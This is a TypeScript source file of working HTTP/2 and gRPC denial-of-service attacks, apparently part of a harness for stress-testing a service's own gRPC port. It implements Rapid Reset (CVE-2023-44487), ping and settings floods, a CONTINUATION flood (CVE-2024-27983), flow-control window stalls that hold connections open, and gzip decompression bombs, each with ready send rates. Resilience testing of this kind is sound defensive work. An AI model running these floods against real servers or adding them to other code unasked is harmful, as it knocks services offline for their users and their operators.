import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { paced, type Attack, type Target } from './attack.js';
import { HostileSockets } from './hostile-sockets.js';
import { callHeaders, END_HEADERS, END_STREAM, frame, FrameType, PREFACE, setting } from './http2-frames.js';

const METHOD = '/gatehouse.resources.v1.ResourceService/GetResource';
const INITIAL_WINDOW_SIZE = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const STALLED_SOCKETS = 50;
const STALLED_A_SECOND = 5;
const STALLED_CALLS = 100;

/** One connection at a time that is opened again when it is closed, and told what to send many times a second. */
function flood(perSecond: number, next: () => Buffer): Attack {
  return async ({ grpcPort }, signal) => {
    using sockets = new HostileSockets(grpcPort);
    let current: Socket | undefined;
    const done = await paced(perSecond, signal, () => {
      if (!current || current.destroyed) current = open(sockets);
      // Whoever does not read does not let the other side write: what is not taken is not sent.
      if (!current.connecting && !current.writableNeedDrain) current.write(next());
    });
    return { done };
  };
}

function open(sockets: HostileSockets): Socket {
  return sockets.connect((socket) => {
    socket.resume();
    socket.write(Buffer.concat([PREFACE, frame(FrameType.SETTINGS, 0, 0)]));
  });
}

/** Calls that are cancelled as soon as they are made (CVE-2023-44487), a hundred in one packet. */
export const rapidReset: Attack = (target, signal) => {
  const headers = callHeaders(METHOD);
  let stream = 1;
  return flood(20, () => {
    // The numbers of streams of a new connection have to grow, and need not begin with 1.
    const calls = Array.from({ length: 100 }, () => {
      const id = (stream += 2) & 0x7fffffff;
      return [
        frame(FrameType.HEADERS, END_HEADERS | END_STREAM, id, headers),
        frame(FrameType.RST_STREAM, 0, id, CANCEL),
      ];
    });
    return Buffer.concat(calls.flat());
  })(target, signal);
};

/** Pings, each of which has to be answered. */
export const pingFlood = flood(50, () =>
  Buffer.concat(Array.from({ length: 100 }, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)))),
);

/** Settings, each of which has to be acknowledged. */
export const settingsFlood = flood(50, () =>
  Buffer.concat(
    Array.from({ length: 50 }, () => frame(FrameType.SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535))),
  ),
);

/** Headers that never end (CVE-2024-27983). */
export const continuationFlood: Attack = async ({ grpcPort }, signal) => {
  using sockets = new HostileSockets(grpcPort);
  const more = frame(FrameType.CONTINUATION, 0, 1, callHeaders(METHOD, { 'x-more': 'a'.repeat(100) }));
  const done = await paced(20, signal, () => {
    const socket = sockets.connect(() => {
      const begin = frame(FrameType.HEADERS, 0, 1, callHeaders(METHOD));
      const all = [
        PREFACE,
        frame(FrameType.SETTINGS, 0, 0),
        begin,
        ...Array.from({ length: 500 }, () => more),
      ];
      socket.resume().write(Buffer.concat(all));
    });
    socket.setTimeout(5_000, () => socket.destroy());
  });
  return { done };
};

/** Calls whose answers nobody takes: the windows stay at nothing. */
export const windowStall: Attack = async ({ grpcPort }, signal) => {
  using sockets = new HostileSockets(grpcPort);
  const calls = Array.from({ length: STALLED_CALLS }, (_, index) => {
    const id = 2 * index + 1;
    const headers = frame(FrameType.HEADERS, END_HEADERS, id, callHeaders('/grpc.health.v1.Health/Check'));
    return Buffer.concat([headers, frame(FrameType.DATA, END_STREAM, id, Buffer.alloc(5))]);
  });
  const settings = frame(FrameType.SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0));
  const all = Buffer.concat([PREFACE, settings, ...calls]);
  let done = 0;
  while (!signal.aborted) {
    for (let count = Math.min(STALLED_A_SECOND, STALLED_SOCKETS - sockets.count); count > 0; count--) {
      done++;
      sockets.connect((socket) => socket.resume().write(all));
    }
    await delay(1_000);
  }
  return { done };
};

/** Calls of a few kilobytes that say they are to be expanded to megabytes. */
export const gzipMessages: Attack = (target: Target, signal) => {
  const bomb = gzipSync(Buffer.alloc(16 * 1024 * 1024));
  const prefix = Buffer.from([1, 0, 0, 0, 0]);
  prefix.writeUInt32BE(bomb.length, 1);
  const headers = callHeaders(METHOD, { 'grpc-encoding': 'gzip' });
  const message = Buffer.concat([prefix, bomb]);
  let stream = 1;
  return flood(50, () => {
    const id = (stream += 2);
    return Buffer.concat([
      frame(FrameType.HEADERS, END_HEADERS, id, headers),
      frame(FrameType.DATA, END_STREAM, id, message),
    ]);
  })(target, signal);
};
